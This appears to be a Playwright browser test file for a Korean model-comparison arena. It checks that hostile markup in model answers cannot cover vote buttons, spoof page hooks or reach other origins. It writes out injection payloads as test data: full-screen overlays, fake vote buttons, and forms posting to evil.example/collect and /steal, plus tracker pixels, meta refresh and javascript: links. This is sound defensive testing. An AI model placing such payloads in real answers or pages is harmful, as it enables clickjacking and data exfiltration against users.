"""Hostile answers in Chromium: markup in an answer is shown as data and cannot reach the page.

A team's model (through the live mock teams) or a pre-generated expert answer carries what an
attacker would send: overlays, positioned or oversized elements, copies of the page's own hooks,
labels for its buttons, forms, base, meta refresh, link targets, image trackers, huge tables and
an unbroken 20,000-character line. Each is rendered on the battle page from side A and side B,
in a first turn and in follow-up turns, and on the expert's judging page from both sides.

For each: the element at the centre of every vote control is that control, both panes show every
answer in full and in their own place, nothing is fetched from another origin, and clicks all
over the answers leave the battle (or the item) as it was, still open to a vote.
"""
import base64
from concurrent.futures import ThreadPoolExecutor

import pytest
from playwright.sync_api import expect

from tests.live.citizen import accept_notice, show_side
from tests.live.conftest import PERSONAS, SETTLED
from tests.live.test_browser import browser  # noqa: F401  (the fixture)

pytestmark = [pytest.mark.live, pytest.mark.browser, pytest.mark.django_db(transaction=True)]

EVIL = "https://evil.example"
TRACKER = "https://tracker.example"
WHITE_SVG = "data:image/svg+xml;base64," + base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">'
    b'<rect width="4000" height="4000" fill="white"/></svg>'
).decode()

# The open dialogs come first and last, so one of them starts close above the vote buttons.
OVERLAYS = [
    f'<dialog open><a href="{EVIL}/"><img src="{WHITE_SVG}" width="4000" height="4000"></a></dialog>',
    f'<a href="{EVIL}/"><img src="{WHITE_SVG}" style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647"></a>',
    ('<div popover="manual" id="cover" style="inset:0;width:100vw;height:100vh">가짜 투표 화면</div>'
     '<button popovertarget="cover" popovertargetaction="show">자세히 보기</button>'),
    '<div popover open>열린 팝오버</div>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:2147483647">가짜 B 답변</div>',
    '<div style="position:absolute;top:-500px;left:-2000px;width:5000px;height:5000px;background:#fff"></div>',
    '<details open><summary>요약</summary><div style="position:sticky;top:0">고정</div></details>',
    f"![큰 그림]({WHITE_SVG})",
    f"[![링크 그림]({WHITE_SVG})]({EVIL}/image-link)",
    '<svg width="5000" height="5000"><rect width="5000" height="5000" fill="white"/></svg><math><mi>x</mi></math>',
    f'<dialog open>가짜 투표 버튼 <a href="{EVIL}/vote"><img src="{WHITE_SVG}" width="4000" height="4000"></a></dialog>',
]
SPOOFS = [
    '<div class="conversation" data-side="b" hidden></div>',
    '<div class="conversation" data-side="a" hidden></div>',
    '<span data-status-for="b" hidden></span><span data-status-for="a" hidden></span>',
    '<span class="status" data-status-for="b" data-status="done">완료</span>',
    '<section class="pane" id="pane-b"><div class="conversation" data-side="b"></div></section>',
    '<div id="votes" class="votes"><div class="vote-buttons"><button type="button" data-choice="a">A가 더 좋음</button></div></div>',
    '<p id="reveal"><span data-reveal="a"></span></p><p id="message" hidden></p>',
    '<label for="new-battle">자세히 보기</label>',
    '<label for="send">더 보기</label>',
    '<div id="answer-b" class="answer markdown" hidden></div><div id="answer-a" hidden></div>',
    '<fieldset class="choice-group" data-group="overall"><input type="radio" name="overall" value="b" checked></fieldset>',
    '<button id="submit" type="submit">제출</button><textarea id="rationale"></textarea>',
    '<label for="skip-confirm">다음</label><details id="skip" open><summary>건너뛰기</summary></details>',
]
NAVIGATION = [
    f'<form action="{EVIL}/collect" method="post"><input name="q" value="x"><button>보내기</button></form>',
    f'<button form="prompt-form" formaction="{EVIL}/steal" type="submit">확인</button>',
    f'<input form="judgment-form" type="submit" formaction="{EVIL}/steal" value="확인">',
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refreshed">',
    f'<a href="{EVIL}/top" target="_top">원문 보기</a> <a href="{EVIL}/self" target="_self">여기</a>',
    f'<img src="{TRACKER}/pixel.gif" alt="">',
    f"![추적]({TRACKER}/md.gif)",
    f'<link rel="stylesheet" href="{EVIL}/x.css"><link rel="prefetch" href="{TRACKER}/prefetch">',
    f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    f'<video src="{TRACKER}/v.mp4" autoplay muted></video><audio src="{TRACKER}/a.mp3" autoplay></audio>',
    f'<div style="background:url({TRACKER}/bg.gif)">배경</div>',
    f"[자세히]({EVIL}/md-link) [상대 주소](/api/battles) [스크립트](javascript:void(0))",
]
HUGE_TABLE = "\n".join(
    ["| " + " | ".join(f"열{c}" for c in range(30)) + " |", "|" + "---|" * 30]
    + ["| " + " | ".join(f"{r}·{c}" for c in range(30)) + " |" for r in range(60)]
)
LINE_CHARS = 20_000
SLOTS = "가나다라마"  # one per answer on a page, so each answer can be told apart


def marked(body: str):
    """An answer of `body` between two visible markers naming its turn and its slot."""

    def answer(slot: int, turn: int) -> tuple[str, list[str]]:
        start, end = f"처음 {turn}{SLOTS[slot]}", f"끝 {turn}{SLOTS[slot]}"
        return f"{start}\n\n{body}\n\n{end}", [start, end]

    return answer


def long_line(slot: int, turn: int) -> tuple[str, list[str]]:
    """One unbroken 20,000-character line, its markers inside it."""
    start, end = f"처음{turn}{SLOTS[slot]}", f"끝{turn}{SLOTS[slot]}"
    line = start + "x" * (LINE_CHARS - len(start) - len(end)) + end
    return line, [line]


GROUPS = {
    "overlays": [marked("\n\n".join(OVERLAYS))],
    "spoofed-hooks": [marked("\n\n".join(SPOOFS))],
    "navigation-and-trackers": [marked("\n\n".join(NAVIGATION))],
    "huge": [marked(HUGE_TABLE + "\n\n<table>" + "<tr><td>셀</td></tr>" * 300 + "</table>"), long_line],
}

ALLOWED = """root => {
  const tags = ['p', 'br', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'em', 'strong', 'del', 'ul', 'ol',
    'li', 'code', 'pre', 'blockquote', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'a'];
  const attributes = {a: ['href', 'target', 'rel'], th: ['align'], td: ['align'], ol: ['start']};
  const found = [];
  root.querySelectorAll('*').forEach(el => {
    const tag = el.localName;
    if (!tags.includes(tag)) found.push(tag);
    for (const attr of el.attributes) {
      if (!(attributes[tag] || []).includes(attr.name)) found.push(tag + '[' + attr.name + ']');
    }
    if (tag === 'a' && el.hasAttribute('href') && !/^https?:\\/\\//.test(el.getAttribute('href'))) {
      found.push('a[href=' + el.getAttribute('href') + ']');
    }
  });
  return found;
}"""

# The centre of the part of an element inside the viewport, after scrolling it into view.
CENTRE = """el => {
  el.scrollIntoView({block: 'center', inline: 'nearest'});
  const r = el.getBoundingClientRect();
  const left = Math.max(r.left, 0), right = Math.min(r.right, window.innerWidth);
  const top = Math.max(r.top, 0), bottom = Math.min(r.bottom, window.innerHeight);
  if (right - left < 1 || bottom - top < 1) return null;
  return [(left + right) / 2, (top + bottom) / 2];
}"""

# Empty when the element at the control's centre is the control (or inside it).
ON_TOP = """el => {
  const centre = (""" + CENTRE + """)(el);
  if (!centre) return 'not visible';
  const hit = document.elementFromPoint(centre[0], centre[1]);
  return hit === el || el.contains(hit) ? '' : (hit ? hit.outerHTML.slice(0, 160) : 'nothing');
}"""

# Every answer element, and up to three elements of each kind inside it, to be clicked.
CLICK_TARGETS = """answers => {
  const targets = [];
  answers.forEach(answer => {
    targets.push(answer);
    const seen = {};
    answer.querySelectorAll('*').forEach(el => {
      seen[el.localName] = (seen[el.localName] || 0) + 1;
      if (seen[el.localName] <= 3) targets.push(el);
    });
  });
  window.__clickTargets = targets;
  return targets.length;
}"""
CLICK_POINT = "i => (" + CENTRE + ")(window.__clickTargets[i])"

OVERLAYS_OPEN = "() => document.querySelectorAll('dialog[open], :popover-open').length"
PAGE_WIDENED = "() => document.documentElement.scrollWidth > document.documentElement.clientWidth"

VIEWPORTS = [{"width": 390, "height": 844}, {"width": 1280, "height": 900}]


def watch_requests(page, web_url: str) -> list[str]:
    """Return the list the page's requests to anywhere but the site are added to.

    Every context's request to another origin is refused, so a popup opened by a clicked
    Markdown link goes nowhere; the page itself must not even ask.
    """
    outside = []
    ws_url = web_url.replace("http://", "ws://")
    page.on("request", lambda r: None if r.url.startswith((web_url, ws_url)) else outside.append(r.url))
    page.context.route(
        "**/*", lambda route: route.continue_() if route.request.url.startswith(web_url) else route.abort()
    )
    return outside


def battle_page_watched(chromium, live_stack, viewport):
    """Open the battle page past the notice with its outside requests watched; return the page,
    the list of outside requests, each side's answers and status, and the vote buttons."""
    page = chromium.new_page(viewport=viewport, locale="ko-KR")
    outside = watch_requests(page, live_stack.web_url)
    page.goto(live_stack.web_url + "/")
    accept_notice(page)
    answers = {side: page.locator(f"#pane-{side} > .conversation > .bubble.answer") for side in "ab"}
    statuses = {side: page.locator(f"#pane-{side} > h2 > .status") for side in "ab"}
    return page, outside, answers, statuses, page.locator("#votes > .vote-buttons > button")


def turn_sent_and_answered(page, prompt, turn, answers, statuses, vote_buttons) -> None:
    """Send `prompt` as turn `turn` and wait until both sides answered it and the vote opened."""
    page.locator("#prompt").fill(prompt)
    page.locator("#send").click()
    for side in "ab":
        expect(answers[side]).to_have_count(turn + 1)
        expect(statuses[side]).to_have_text("완료", timeout=30_000)
    expect(vote_buttons.first).to_be_enabled()


def assert_controls_on_top(controls) -> None:
    covered = {}
    for i in range(controls.count()):
        hit = controls.nth(i).evaluate(ON_TOP)
        if hit:
            covered[controls.nth(i).evaluate("el => el.outerHTML.slice(0, 80)")] = hit
    assert covered == {}, covered


def assert_answers_own_their_box(answers) -> None:
    """Each answer is visible, its centre is its own, and it keeps to the allow-list."""
    for i in range(answers.count()):
        answer = answers.nth(i)
        expect(answer).to_be_visible()
        assert answer.evaluate(ON_TOP) == ""
    for i in range(answers.count()):
        assert answers.nth(i).evaluate(ALLOWED) == []


def click_all_over(page, answers) -> int:
    """Click the centre of every answer and of the elements inside it; return the clicks."""
    clicks = 0
    for i in range(page.evaluate(CLICK_TARGETS, answers.element_handles())):
        point = page.evaluate(CLICK_POINT, i)
        if point:
            page.mouse.click(*point)
            clicks += 1
    # A navigation or a toggle a click started has shown once the page has drawn twice since.
    page.evaluate(SETTLED)
    return clicks


def slot_shown(text: str, expected: dict[int, list[str]]) -> list[int]:
    return [slot for slot, parts in expected.items() if all(part in text for part in parts)]


@pytest.mark.parametrize("viewport", VIEWPORTS, ids=["phone", "desktop"])
@pytest.mark.parametrize("group", list(GROUPS))
def test_a_hostile_answer_cannot_touch_the_battle_page(
    live_stack, live_contest, browser, mock_answers, group, viewport  # noqa: F811
):
    page, outside, answers, statuses, vote_buttons = battle_page_watched(browser, live_stack, viewport)

    # Given every team answering the group's hostile markup, in the first turn and in follow-ups
    turns = GROUPS[group] * 2
    expected = []  # per turn: slot -> the texts that answer must show
    for turn, answer in enumerate(turns):
        texts = {slot: answer(slot, turn) for slot in range(len(PERSONAS))}
        mock_answers({persona: texts[slot][0] for slot, (persona, _, _) in enumerate(PERSONAS)})
        expected.append({slot: parts for slot, (_, parts) in texts.items()})
        turn_sent_and_answered(page, f'<label for="new-battle">질문 {turn}</label> 설명해 줘', turn,
                               answers, statuses, vote_buttons)
    battle_id = page.locator("#battle").get_attribute("data-battle-id")

    # Then every vote button is the element at its own centre
    assert_controls_on_top(vote_buttons)

    # And each pane shows its own side's answer of every turn, in full, in its own box (on a
    # phone, each side in its tab)
    slots = {}
    for side in "ab":
        show_side(page, side)
        expect(statuses[side]).to_be_visible()
        for turn in range(len(turns)):
            shown = slot_shown(answers[side].nth(turn).inner_text(), expected[turn])
            assert len(shown) == 1, (side, turn, shown)
            assert slots.setdefault(side, shown[0]) == shown[0], (side, turn)
        assert_answers_own_their_box(answers[side])
    assert slots["a"] != slots["b"]
    assert not page.evaluate(PAGE_WIDENED)

    # When the citizen clicks all over both answers (each side's tab first, on a phone)
    clicks = 0
    for side in "ab":
        show_side(page, side)
        clicks += click_all_over(page, page.locator(f"#pane-{side} > .conversation > .bubble.answer"))

    # Then it is still the same battle, nothing opened over it, and the vote goes through
    assert clicks >= 2 * len(turns)
    assert page.url == live_stack.web_url + "/"
    assert page.locator("#battle").get_attribute("data-battle-id") == battle_id
    assert page.evaluate(OVERLAYS_OPEN) == 0
    assert_controls_on_top(vote_buttons)
    vote_buttons.first.click()
    expect(page.locator("#reveal")).to_be_visible()

    # And the reveal names the teams whose answers each pane showed
    for side in "ab":
        team = PERSONAS[slots[side]][1]
        expect(page.locator(f'#reveal [data-reveal="{side}"]')).to_contain_text(team)
    assert outside == []


# Copies of the battle page's hooks, put straight into pane A's answer as if the sanitiser had
# let them through.
PAST_THE_SANITISER = """answer => {
  answer.insertAdjacentHTML('afterbegin',
    '<div class="conversation" data-side="b" hidden></div>' +
    '<span class="status" data-status-for="b" hidden></span>' +
    '<span data-reveal="b" hidden></span>');
}"""


def test_the_battle_page_keeps_to_its_own_elements_even_past_the_sanitiser(
    live_stack, live_contest, browser  # noqa: F811
):
    page = browser.new_page(viewport={"width": 1280, "height": 900}, locale="ko-KR")
    page.goto(live_stack.web_url + "/")
    accept_notice(page)
    answers = {side: page.locator(f"#pane-{side} > .conversation > .bubble.answer") for side in "ab"}
    statuses = {side: page.locator(f"#pane-{side} > h2 > .status") for side in "ab"}
    page.locator("#prompt").fill("김치찌개 끓이는 법을 알려 줘")
    page.locator("#send").click()
    for side in "ab":
        expect(statuses[side]).to_have_text("완료", timeout=30_000)

    # Given markup in pane A's answer that copies pane B's conversation, status and reveal hooks
    answers["a"].first.evaluate(PAST_THE_SANITISER)

    # When the citizen asks a follow-up
    page.locator("#prompt").fill("더 자세히 알려 줘")
    page.locator("#send").click()

    # Then B's answer and status still go to pane B, visible, and the copies stay empty
    expect(answers["b"]).to_have_count(2)
    expect(statuses["b"]).to_have_text("완료", timeout=30_000)
    expect(statuses["b"]).to_be_visible()
    expect(answers["b"].nth(1)).to_contain_text("이어", timeout=10_000)

    # And after the vote the reveal is written where the citizen sees it, not into the copies
    page.locator("#votes > .vote-buttons > button").first.click()
    expect(page.locator("#reveal > p > span[data-reveal='b']")).not_to_be_empty()
    copies = "el => Array.from(el.querySelectorAll('[hidden]')).map(c => c.textContent).join('')"
    assert answers["a"].first.evaluate(copies) == ""


@pytest.fixture
def hostile_expert_queue(live_contest):
    """An expert with one item per hostile answer kind, both answers of each item hostile."""
    from tests.factories import expert_make
    from expert import services as expert_services
    from expert.models import Answer, Pair, Prompt, PromptSet

    entrants = list(live_contest.entrants.order_by("pk")[:2])
    prompt_set = PromptSet.objects.create(contest=live_contest, title="적대적 답변 세트")
    expected = {}  # marker of the item's prompt -> slot -> the texts that answer must show
    bodies = [answer for answers in GROUPS.values() for answer in answers]
    for n, body in enumerate(bodies):
        marker = f"문항 {n}"
        prompt = Prompt.objects.create(
            prompt_set=prompt_set, domain="law", text=f'{marker}: <label for="submit">질문</label>'
        )
        texts = {slot: body(slot, n) for slot in range(2)}
        first, second = (
            Answer.objects.create(prompt=prompt, entrant=entrant, status="done", text=texts[slot][0])
            for slot, entrant in enumerate(entrants)
        )
        Pair.objects.create(prompt=prompt, answer_1=first, answer_2=second)
        expected[marker] = {slot: parts for slot, (_, parts) in texts.items()}
    expert_make(domains=["law"], username="hostile-expert")
    expert_services.assignments_create(prompt_set=prompt_set, k=1, seed=0)
    return expected


@pytest.mark.parametrize("viewport", VIEWPORTS, ids=["phone", "desktop"])
def test_a_hostile_answer_cannot_touch_the_expert_page(
    live_stack, hostile_expert_queue, browser, viewport  # noqa: F811
):
    page = browser.new_page(viewport=viewport, locale="ko-KR")
    outside = watch_requests(page, live_stack.web_url)
    page.goto(live_stack.web_url + "/expert/")
    page.locator("#id_username").fill("hostile-expert")
    page.locator("#id_password").fill("pass")
    page.locator("#id_password").press("Enter")
    total = len(hostile_expert_queue)
    expect(page.locator("#queue-progress")).to_contain_text(f"0 / {total}")
    page.locator("#start").click()
    answers = page.locator(".expert-item > .panes > .pane > .answer")
    controls = page.locator("#judgment-form input[type=radio], #rationale, #submit")

    seen = set()
    for done in range(total):
        # Given an item whose two answers are hostile
        expect(page.locator("#progress")).to_have_text(f"{done} / {total}")
        url = page.url
        marker = page.locator(".item-prompt > .prompt-text").inner_text().split(":")[0]
        seen.add(marker)

        # Then every choice, the rationale and the submit button are the element at their centre
        assert_controls_on_top(controls)
        # And each pane shows one of the two answers, in full, in its own box
        shown = [slot_shown(answers.nth(i).inner_text(), hostile_expert_queue[marker]) for i in range(2)]
        assert sorted(shown) == [[0], [1]], (marker, shown)
        assert_answers_own_their_box(answers)
        assert not page.evaluate(PAGE_WIDENED)

        # When the expert clicks all over both answers
        click_all_over(page, answers)

        # Then it is still the same item, nothing opened over it, and it can be judged by pointer
        assert page.url == url
        assert page.evaluate(OVERLAYS_OPEN) == 0
        assert_controls_on_top(controls)
        for group in page.locator("#judgment-form fieldset.choice-group").all():
            point = group.locator("input[type=radio]").first.evaluate(CENTRE)
            page.mouse.click(*point)
        page.locator("#rationale").fill("두 답변 모두 마크업을 글자로만 보여 줍니다. A가 조금 더 낫습니다.")
        page.mouse.click(*page.locator("#submit").evaluate(CENTRE))
        if done + 1 < total:
            expect(page.locator("#progress")).to_have_text(f"{done + 1} / {total}")

    expect(page.locator("#queue-progress")).to_contain_text(f"{total} / {total}")
    assert seen == set(hostile_expert_queue)
    assert outside == []

    def judged():
        from django.db import connection

        from expert.models import ExpertJudgment

        try:
            return ExpertJudgment.objects.filter(assignment__expert__username="hostile-expert").count()
        finally:
            connection.close()

    with ThreadPoolExecutor(1) as pool:
        assert pool.submit(judged).result() == total


def test_a_persona_answers_exactly_the_text_it_is_given(live_stack, mock_answers):
    """The mock's answer control streams the given text in pieces, and a reset restores it."""
    from arena.endpoints import EndpointConfig, chat_stream

    config = EndpointConfig(base_url=f"{live_stack.mock_url}/solar/v1", model="solar", api_key="k",
                            params={}, timeout_seconds=10.0)
    messages = [{"role": "user", "content": "안녕"}]
    text = "<dialog open>" + "y" * 1000

    mock_answers({"solar": text})
    pieces = list(chat_stream(config, messages))

    assert "".join(pieces) == text and len(pieces) > 10
